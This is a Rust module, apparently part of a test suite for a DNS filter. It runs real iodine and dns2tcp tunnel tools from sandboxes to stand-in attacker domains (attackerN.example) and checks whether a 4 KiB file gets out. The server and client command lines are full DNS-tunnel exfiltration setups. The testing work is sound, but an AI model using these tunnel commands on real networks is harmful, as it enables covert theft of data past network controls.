//! Real tunnel tools, forced to DNS: the attacker's server outside, the client in a sandbox, and a file of 4 KiB that
//! wants to get out.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use super::ns::Process;
use super::web::Drop;
use super::{World, wait_for};

/// Octets of the file.
pub const FILE: usize = 4096;
/// What tunnel and server know.
pub const PASSWORD: &str = "correct-horse";

/// A tool and the record type it is told to use.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tool {
    /// iodine with `-T TYPE`, raw UDP mode off.
    Iodine(&'static str),
    /// dns2tcp with `-T TYPE`.
    Dns2tcp(&'static str),
}

/// The tools of which each must be stopped.
pub const ALL: [Tool; 7] = [
    Tool::Iodine("NULL"),
    Tool::Iodine("TXT"),
    Tool::Iodine("CNAME"),
    Tool::Iodine("A"),
    Tool::Iodine("MX"),
    Tool::Dns2tcp("TXT"),
    Tool::Dns2tcp("KEY"),
];

/// Whether the tool breaks where names lose their case: dns2tcp writes Base64 into them.
pub fn needs_case(tool: Tool) -> bool {
    matches!(tool, Tool::Dns2tcp(_))
}

/// How an attempt ended.
#[derive(Debug)]
pub struct Outcome {
    /// What was tried.
    pub tool: Tool,
    /// The attacker's registrable domain.
    pub domain: String,
    /// Octets of the file that arrived.
    pub arrived: usize,
    /// Whether they are the file, whole and unchanged.
    pub whole: bool,
    /// From the client's start to the file's arrival, or to giving up.
    pub took: Duration,
    /// What the client printed.
    pub log: String,
    /// What the attacker's server printed.
    pub server_log: String,
}

/// How often somebody dials again whose connection through the tunnel was lost.
const DIALS: u32 = 15;

/// Tries `tools[i]` from `world.agents[i]`, all at the same time, each for at most `limit`.
pub fn attempt(world: &World, tools: &[Tool], limit: Duration) -> Vec<Outcome> {
    assert!(tools.len() <= world.agents.len(), "one sandbox for each tool");
    let servers: Vec<(Process, Drop)> = tools.iter().enumerate().map(|(i, tool)| serve(world, i, *tool)).collect();
    std::thread::scope(|scope| {
        let tries: Vec<_> = servers
            .iter()
            .enumerate()
            .map(|(i, (server, drop))| scope.spawn(move || try_one(world, i, tools[i], server, drop, limit)))
            .collect();
        tries.into_iter().map(|t| t.join().expect("the attempt did not panic")).collect()
    })
}

/// The attacker's domain for the `i`th tool; the tunnel's zone is `t.` below it.
pub fn domain(i: usize) -> String {
    format!("attacker{}.example", i + 1)
}

fn drop_port(i: usize) -> u16 {
    7001 + i as u16
}

/// Starts the attacker's server for the `i`th tool, and what takes the file behind it.
pub fn serve(world: &World, i: usize, tool: Tool) -> (Process, Drop) {
    let address = Ipv4Addr::new(203, 0, 113, 61 + i as u8);
    let zone = format!("t.{}", domain(i));
    let drop = Drop::start(&world.net, drop_port(i), FILE);
    let log = world.path(&format!("server-{i}.log"));
    let process = match tool {
        Tool::Iodine(_) => {
            let mut command = world.net.command("iodined");
            command.args(["-f", "-c", "-P", PASSWORD, "-l", &address.to_string(), "-d", &format!("dns{i}")]);
            command.args([format!("10.99.{}.1/27", i + 1), zone]);
            let mut process = Process::start(command, log);
            assert!(process.wait_for_log("Listening to dns", Duration::from_secs(5)), "iodined: {}", process.log());
            process
        }
        Tool::Dns2tcp(_) => {
            let config = world.path(&format!("dns2tcpd-{i}.conf"));
            let text = format!(
                "listen = {address}\nport = 53\ndomain = {zone}\nkey = {PASSWORD}\n\
                 resources = drop:127.0.0.1:{}\n",
                drop_port(i)
            );
            std::fs::write(&config, text).expect("dns2tcpd's configuration written");
            let mut command = world.net.command("dns2tcpd");
            command.args(["-F", "-d", "3", "-f"]).arg(config);
            let mut process = Process::start(command, log);
            assert!(process.wait_for_log("Starting Server", Duration::from_secs(5)), "dns2tcpd: {}", process.log());
            process
        }
    };
    world.upstream.delegate(&domain(i), SocketAddr::from((address, 53)));
    (process, drop)
}

fn try_one(world: &World, i: usize, tool: Tool, server: &Process, drop: &Drop, limit: Duration) -> Outcome {
    let start = Instant::now();
    let agent = &world.agents[i];
    let zone = format!("t.{}", domain(i));
    let resolver = agent.gateway.to_string();
    let log = world.path(&format!("client-{i}.log"));
    let (mut client, to) = match tool {
        Tool::Iodine(rtype) => {
            let mut command = agent.ns.command("iodine");
            command.args(["-f", "-r", "-P", PASSWORD, "-T", rtype, "-I", "1", &resolver, &zone]);
            (Process::start(command, log), SocketAddr::from(([10, 99, i as u8 + 1, 1], drop_port(i))))
        }
        Tool::Dns2tcp(rtype) => {
            let mut command = agent.ns.command("dns2tcpc");
            command.args(["-z", &zone, "-k", PASSWORD, "-r", "drop", "-l", "2222", "-T", rtype, "-d", "1", &resolver]);
            (Process::start(command, log), SocketAddr::from(([127, 0, 0, 1], 2222)))
        }
    };
    let up = match tool {
        Tool::Iodine(_) => client.wait_for_log("Connection setup complete", limit),
        Tool::Dns2tcp(_) => client.wait_for_log("Listening on port", limit.min(Duration::from_secs(5))),
    };
    let file: Vec<u8> = (0..FILE).map(|n| (n * 7 + n / 256) as u8).collect();
    let left = || limit.saturating_sub(start.elapsed());
    let arrived = || wait_for(left().min(Duration::from_secs(1)), || (drop.bytes() == file).then_some(()));
    let mut whole = None;
    if up {
        agent.ns.blocking(|| send(to, &file, left()));
        whole = arrived();
        // dns2tcp gives a connection up at the first refusal and waits for the next one: whoever wants the file out
        // dials again.
        for _ in 0..DIALS {
            if whole.is_some() || left().is_zero() || !matches!(tool, Tool::Dns2tcp(_)) {
                break;
            }
            agent.ns.blocking(|| send(to, &file, left().min(Duration::from_secs(2))));
            whole = arrived();
        }
    }
    Outcome {
        tool,
        domain: domain(i),
        arrived: drop.bytes().len(),
        whole: whole.is_some(),
        took: start.elapsed(),
        log: client.log(),
        server_log: server.log(),
    }
}

/// Sends the file and waits for the attacker's word that it is there; gives up silently at `limit`.
fn send(to: SocketAddr, file: &[u8], limit: Duration) {
    let limit = limit.max(Duration::from_millis(1));
    let Ok(mut stream) = TcpStream::connect_timeout(&to, limit) else { return };
    let _ = stream.set_read_timeout(Some(limit));
    if stream.write_all(file).is_ok() {
        let _ = stream.read(&mut [0; 16]);
    }
}
